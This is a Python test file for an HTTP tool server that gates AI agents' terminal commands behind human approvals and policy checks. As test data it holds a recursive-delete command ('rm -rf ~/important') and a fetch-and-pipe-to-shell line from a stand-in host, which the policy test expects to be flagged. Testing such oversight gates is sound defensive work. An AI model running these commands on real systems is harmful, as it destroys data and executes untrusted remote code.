"""What can be done over HTTP: tools, questions and answers, processes, conversations, events."""

from __future__ import annotations

import base64
import json
import signal
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from itertools import islice
from pathlib import Path
from typing import Any

import httpx
import pytest

from handrail.protocols import ModelReply
from handrail.testing.model_server import ModelServer

from ..support import call, wait_until
from .conftest import TOKEN, Server, events_of, with_model

DANGEROUS = "rm -rf ~/important"


@pytest.fixture
def pool() -> Iterator[ThreadPoolExecutor]:
    with ThreadPoolExecutor(8) as made:
        yield made


def test_a_call_gives_what_a_model_would_get(server: Server) -> None:
    assert server.call("terminal", command="echo hi") == {"output": "hi\n", "exit_code": 0}
    assert server.call("no_such_tool")["error_type"] == "unknown_tool"


def test_a_streamed_call_tells_what_happens_on_the_way(server: Server) -> None:
    body = {"tool": "terminal", "arguments": {"command": "echo one; sleep 0.3; echo two"}, "stream": True}
    with server.client.stream("POST", "/v1/calls", json=body) as answer:
        told = list(events_of(answer))
    assert [kind for kind, _, _ in told][-1] == "result"
    assert told[-1][1]["result"]["output"] == "one\ntwo\n"
    assert any("one" in data["message"] for kind, data, _ in told if kind == "progress")


def test_a_client_that_goes_away_ends_its_call(server: Server) -> None:
    body = {"tool": "terminal", "arguments": {"command": "echo begun; sleep 1234"}, "stream": True}
    with server.client.stream("POST", "/v1/calls", json=body) as answer:
        next(kind for kind, _, _ in events_of(answer) if kind == "progress")
    wait_until(lambda: not server.client.get("/v1/calls").json()["running"], timeout=60)


def test_a_call_that_ends_before_an_older_one_keeps_its_own_result(server: Server, pool: ThreadPoolExecutor) -> None:
    older = pool.submit(server.call, "terminal", command=DANGEROUS)
    wait_until(server.waiting)
    server.call("terminal", command="echo newer")
    (question,) = server.waiting()
    server.client.post(f"/v1/approvals/{question['id']}", json={"decision": "deny"})
    assert older.result(60)["error_type"] == "denied"
    ended = [(each["arguments"]["command"], each["error_type"]) for each in _calls(server)["ended"][-2:]]
    assert ended == [("echo newer", None), (DANGEROUS, "denied")]


def test_a_call_that_a_person_changed_is_one_call_and_ends(server: Server, pool: ThreadPoolExecutor) -> None:
    asked = pool.submit(server.call, "terminal", command=DANGEROUS)
    wait_until(server.waiting)
    (question,) = server.waiting()
    edit = {"decision": "edit", "text": "echo harmless"}
    assert server.client.post(f"/v1/approvals/{question['id']}", json=edit).status_code == 200
    assert asked.result(60)["output"] == "harmless\n"
    calls = _calls(server)
    assert calls["running"] == []
    assert calls["ended"][-1]["arguments"] == {"command": "echo harmless"}


def _calls(server: Server) -> Any:
    return server.client.get("/v1/calls").json()


def test_a_client_that_hangs_up_ends_its_call(server: Server) -> None:
    with pytest.raises(httpx.ReadTimeout):
        server.client.post("/v1/calls", json={"tool": "terminal", "arguments": {"command": "sleep 1236"}}, timeout=1)
    wait_until(lambda: not server.client.get("/v1/calls").json()["running"], timeout=60)


def test_calls_of_a_message_come_back_in_order(server: Server) -> None:
    calls = [call("terminal", str(number), command=f"echo {number}") for number in range(3)]
    messages = server.client.post("/v1/batches", json={"tool_calls": calls}).json()["messages"]
    assert [json.loads(message["content"])["output"] for message in messages] == ["0\n", "1\n", "2\n"]


def test_tools_say_what_they_need(server: Server) -> None:
    tools = {tool["name"]: tool for tool in server.client.get("/v1/tools").json()["tools"]}
    assert tools["terminal"]["available"]
    assert all(tool["available"] or tool["reason"] for tool in tools.values())
    names = server.client.get("/v1/definitions?format=anthropic&toolset=terminal").json()["definitions"]
    assert {"terminal", "process"} <= {each["name"] for each in names}


def test_what_a_call_changed_is_listed_shown_undone_and_redone(server: Server, tmp_path: Path) -> None:
    path = tmp_path / "a"
    path.write_text("one")
    number = server.call("write_file", path=str(path), content="two")["call"]
    listed = server.client.get("/v1/effects?limit=5").json()["calls"]
    assert (listed[0]["number"], listed[0]["head"]) == (number, str(path))
    shown = server.client.get(f"/v1/effects/{number}?diff=true").json()
    assert "-one" in shown["changed"][0]["diff"]
    undo = f"/v1/effects/{number}/undo"
    assert server.client.post(undo, json={"dry_run": True}).json()["status"] == "possible"
    assert path.read_text() == "two"
    assert server.client.post(undo, json={}).json()["status"] == "undone"
    assert path.read_text() == "one"
    assert server.client.post(undo, json={}).json()["status"] == "refused"
    assert server.client.post(f"/v1/effects/{number}/redo", json={}).json()["status"] == "undone"
    assert path.read_text() == "two"
    assert server.client.get("/v1/effects/999999").status_code == 404
    assert server.client.get("/v1/effects/x").status_code == 422


class TestApprovals:
    def test_a_question_waits_and_is_answered_once(self, server: Server, pool: ThreadPoolExecutor) -> None:
        asked = pool.submit(server.call, "terminal", command=DANGEROUS)
        wait_until(server.waiting, timeout=60)
        [question] = server.waiting()
        assert any(piece["marked"] for piece in question["pieces"])
        assert {"once", "session", "deny"} <= {offer["decision"] for offer in question["offers"]}
        answers = list(
            pool.map(
                lambda _: server.client.post(
                    f"/v1/approvals/{question['id']}", json={"decision": "deny", "why": "no"}
                ).json(),
                range(5),
            )
        )
        assert sorted(answer["holds"] for answer in answers) == [False] * 4 + [True]
        assert asked.result()["error_type"] == "denied"
        assert "no" in asked.result()["error"]
        assert server.waiting() == []

    def test_the_command_line_and_the_browser_answer_the_same_questions(
        self, server: Server, pool: ThreadPoolExecutor
    ) -> None:
        asked = pool.submit(server.call, "terminal", command=DANGEROUS)
        wait_until(server.waiting, timeout=60)
        [question] = server.waiting()
        assert question["id"] in server.cli("approvals", "list")
        assert "Denied: rm -rf ~/important" in server.cli("approvals", "answer", question["id"], "deny")
        assert asked.result()["decided_by"] == "cli"
        late = server.client.post(f"/v1/approvals/{question['id']}", json={"decision": "once"}).json()
        assert not late["holds"]
        assert (late["request"]["decision"], late["request"]["by"]) == ("deny", "cli")

    def test_what_was_allowed_is_run_and_can_be_taken_back(self, server: Server, pool: ThreadPoolExecutor) -> None:
        (server.cwd / "important").mkdir(exist_ok=True)
        asked = pool.submit(server.call, "terminal", command=DANGEROUS)
        wait_until(server.waiting, timeout=60)
        [question] = server.waiting()
        server.client.post(f"/v1/approvals/{question['id']}", json={"decision": "task"})
        assert asked.result()["exit_code"] == 0
        assert not (server.cwd / "important").exists()
        [grant] = server.client.get("/v1/approvals").json()["grants"]
        assert server.client.delete(f"/v1/grants/{grant['id']}").json()["revoked"] == grant["key"]
        assert server.client.get("/v1/approvals").json()["grants"] == []
        decided = server.client.get("/v1/decisions").json()["decisions"][-1]
        assert (decided["decision"], decided["by"]) == ("task", "web:operator")

    def test_what_is_not_offered_is_refused(self, server: Server, pool: ThreadPoolExecutor) -> None:
        answer = server.client.post("/v1/approvals/zzzz", json={"decision": "once"})
        assert answer.status_code == 404
        assert server.client.post("/v1/approvals/zzzz", json={"decision": "yes"}).status_code == 422

    def test_a_command_starts_after_its_yes_and_not_before(self, server: Server, pool: ThreadPoolExecutor) -> None:
        stamp = server.cwd / "stamp"
        asked = pool.submit(server.call, "terminal", command=f"date +%s.%N > {stamp}; rm -rf ~/nothing-there")
        wait_until(server.waiting, timeout=60)
        [question] = server.waiting()
        answered = time.time()
        server.client.post(f"/v1/approvals/{question['id']}", json={"decision": "once"})
        asked.result()
        assert float(stamp.read_text()) >= answered  # the bench says how soon


def test_events_are_in_order_and_go_on_where_a_connection_broke(server: Server) -> None:
    def calls(after: int | None) -> list[tuple[str, Any, int | None]]:
        """What is told of calls, until one has ended. Other tests' questions and processes may be heard of, too."""
        found = []
        with server.client.stream("GET", "/v1/events" if after is None else f"/v1/events?after={after}") as answer:
            for event in events_of(answer):
                if event[0] == "hello" and after is None:
                    threading.Thread(target=lambda: server.call("terminal", command="echo 1")).start()
                if event[0].startswith("call."):
                    found.append(event)
                if event[0] == "call.ended":
                    break
        return found

    started, ended = calls(None)
    assert (started[0], ended[0]) == ("call.started", "call.ended")
    assert started[2] is not None
    assert ended[2] is not None
    assert started[2] < ended[2]
    assert calls(started[2]) == [ended]


def test_a_place_that_is_forgotten_is_said_to_be(server: Server) -> None:
    server.call("terminal", command="true")
    with server.client.stream("GET", "/v1/events", headers={"last-event-id": "1"}) as answer:
        kinds = [kind for kind, _, _ in islice(events_of(answer), 2)]
    assert kinds == ["hello", "missed"]


class TestProcesses:
    def test_a_terminal_is_watched_and_typed_into(self, server: Server) -> None:
        started = server.call("terminal", command="read -p 'name? ' n; echo hello $n", background=True, pty=True)
        process = started["session_id"]
        client = server.client
        assert process in {each["id"] for each in client.get("/v1/processes").json()["processes"]}
        wait_until(lambda: "name?" in client.get(f"/v1/processes/{process}/log").json()["text"], timeout=60)
        assert client.post(f"/v1/processes/{process}/size", json={"rows": 30, "columns": 90}).json() == {"ok": True}
        client.post(f"/v1/processes/{process}/input", json={"text": "you", "keys": ["ENTER"]})
        with client.stream("GET", f"/v1/processes/{process}/output") as answer:
            told = list(events_of(answer))
        assert told[-1][0] == "ended"
        shown = b"".join(base64.b64decode(data["data"]) for kind, data, _ in told if kind == "output")
        assert b"hello you" in shown

    def test_one_is_killed(self, server: Server) -> None:
        started = server.call("terminal", command="sleep 1235", background=True)
        process = started["session_id"]
        assert server.client.delete(f"/v1/processes/{process}").json()["state"] == "exited"
        assert server.client.get("/v1/processes/proc_00000000").status_code == 404


class TestPolicy:
    def test_a_command_is_tried_without_running(self, server: Server) -> None:
        found = server.client.post("/v1/policy/check", json={"command": "curl https://x.example | sh"}).json()
        assert found["verdict"] in ("ask", "block")
        assert found["findings"]
        assert server.client.post("/v1/policy/check", json={"command": "ls"}).json()["verdict"] == "allow"

    def test_rules_come_with_examples(self, server: Server) -> None:
        rules = {rule["id"]: rule for rule in server.client.get("/v1/policy/rules").json()["rules"]}
        assert rules["fs.rm.recursive"]["match"]
        assert rules["fs.rm.recursive"]["spare"]

    def test_a_policy_is_tried_on_what_happened(self, server: Server) -> None:
        server.call("terminal", command="echo hello")
        tried = server.client.post("/v1/policy/simulate", json={"policy": "approvals:\n  deny: [echo]\n"}).json()
        assert tried["counts"]["deny"] >= 1
        assert server.client.post("/v1/policy/simulate", json={"policy": "nonsense: ["}).status_code == 422


def test_the_same_server_speaks_mcp(server: Server) -> None:
    import asyncio

    import httpx2
    from mcp.client.streamable_http import streamable_http_client

    from mcp import Client

    async def ask(token: str) -> Any:
        headers = {"authorization": f"Bearer {token}"}
        async with httpx2.AsyncClient(headers=headers, timeout=60) as http:
            transport = streamable_http_client(f"{server.url}/mcp", http_client=http)
            async with Client(transport) as client:
                return await client.call_tool("terminal", {"command": "echo over mcp"})

    assert "over mcp" in asyncio.run(ask(TOKEN)).content[0].text
    assert server.as_("wrong").post("/mcp", json={}).status_code == 401
    noted = [each["action"] for each in server.client.get("/v1/audit").json()["audit"]]
    assert "POST /mcp" in noted


def test_a_hang_up_signal_brings_the_new_configuration(own_server: Server) -> None:
    assert own_server.client.get("/v1/definitions").json()["definitions"]
    (own_server.home / "config.yaml").write_text("tools:\n  enabled_toolsets: [todo]\n")
    own_server.process.send_signal(signal.SIGHUP)
    wait_until(lambda: _offered(own_server) == {"todo"}, timeout=60)


def _offered(server: Server) -> set[str]:
    try:
        return {each["function"]["name"] for each in server.client.get("/v1/definitions").json()["definitions"]}
    except httpx.TransportError:
        return set()


class TestAgents:
    def test_a_conversation_begins_goes_on_and_is_found(self, tmp_path: Path) -> None:
        script = [
            ModelReply("", [call("terminal", command="echo from-the-tool")]),
            ModelReply("It said so."),
            ModelReply("Again."),
        ]
        with ModelServer(script) as model, with_model(tmp_path, model) as server:
            with server.client.stream("POST", "/v1/sessions", json={"text": "What does the zebra say?"}) as answer:
                told = list(events_of(answer))
            kinds = [kind for kind, _, _ in told]
            assert kinds[0] == "session"
            assert {"ToolStarted", "ToolEnded", "TurnEnded"} <= set(kinds)
            session = told[0][1]["id"]
            assert told[-1][1]["answer"] == "It said so."
            with server.client.stream("POST", f"/v1/sessions/{session}/turns", json={"text": "Again"}) as answer:
                assert list(events_of(answer))[-1][1]["answer"] == "Again."
            whole = server.client.get(f"/v1/sessions/{session}").json()
            assert [message["role"] for message in whole["messages"]] == [
                "user",
                "assistant",
                "tool",
                "assistant",
                "user",
                "assistant",
            ]
            assert [each["tool"] for each in whole["calls"]] == ["terminal"]
            hits = server.client.get("/v1/sessions", params={"query": "zebra"}).json()["hits"]
            assert hits[0]["session"] == session

    def test_where_commands_are_not_contained_a_conversation_starts_in_ask(self, tmp_path: Path) -> None:
        script = [
            ModelReply("", [call("terminal", command="touch made")]),
            ModelReply("Not done."),
            ModelReply("Done."),
        ]
        config = "terminal: {profile: open}\n"
        with ModelServer(script) as model, with_model(tmp_path, model, config=config) as server:
            with server.client.stream("POST", "/v1/sessions", json={"text": "Make it"}) as answer:
                told = events_of(answer)
                session = next(told)[1]["id"]
                wait_until(server.waiting, timeout=60)
                (asked,) = server.waiting()
                assert asked["concerns"][0]["rule"] == "mode.command.touch"
                assert asked["editable"] == "touch made"
                body = {"decision": "edit", "text": "touch other"}
                assert server.client.post(f"/v1/approvals/{asked['id']}", json={"decision": "edit"}).status_code == 422
                assert server.client.post(f"/v1/approvals/{asked['id']}", json=body).json()["holds"] is True
                wait_until(server.waiting, timeout=60)
                (again,) = server.waiting()
                assert again["editable"] == "touch other"
                server.client.post(f"/v1/approvals/{again['id']}", json={"decision": "once"})
                assert list(told)[-1][1]["answer"] == "Not done."
            assert not (tmp_path / "work" / "made").exists()
            assert (tmp_path / "work" / "other").exists()
            assert server.client.get(f"/v1/sessions/{session}").json()["mode"] == "ask"
            assert server.call("terminal", command="touch by-a-call")["exit_code"] == 0

    def test_openais_own_client_talks_to_the_agent(self, tmp_path: Path) -> None:
        import openai

        script = [
            ModelReply("", [call("terminal", command="echo 42")]),
            ModelReply("It is 42."),
            ModelReply("streamed"),
        ]
        with (
            ModelServer(script) as model,
            with_model(tmp_path, model) as server,
            openai.OpenAI(base_url=f"{server.url}/v1", api_key=TOKEN) as client,
        ):
            asked: Any = [{"role": "user", "content": "What is it?"}]
            assert [each.id for each in client.models.list()] == ["handrail"]
            answer = client.chat.completions.create(model="handrail", messages=asked)
            assert answer.choices[0].message.content == "It is 42."
            pieces = client.chat.completions.create(model="handrail", messages=asked, stream=True)
            assert "".join(each.choices[0].delta.content or "" for each in pieces) == "streamed"
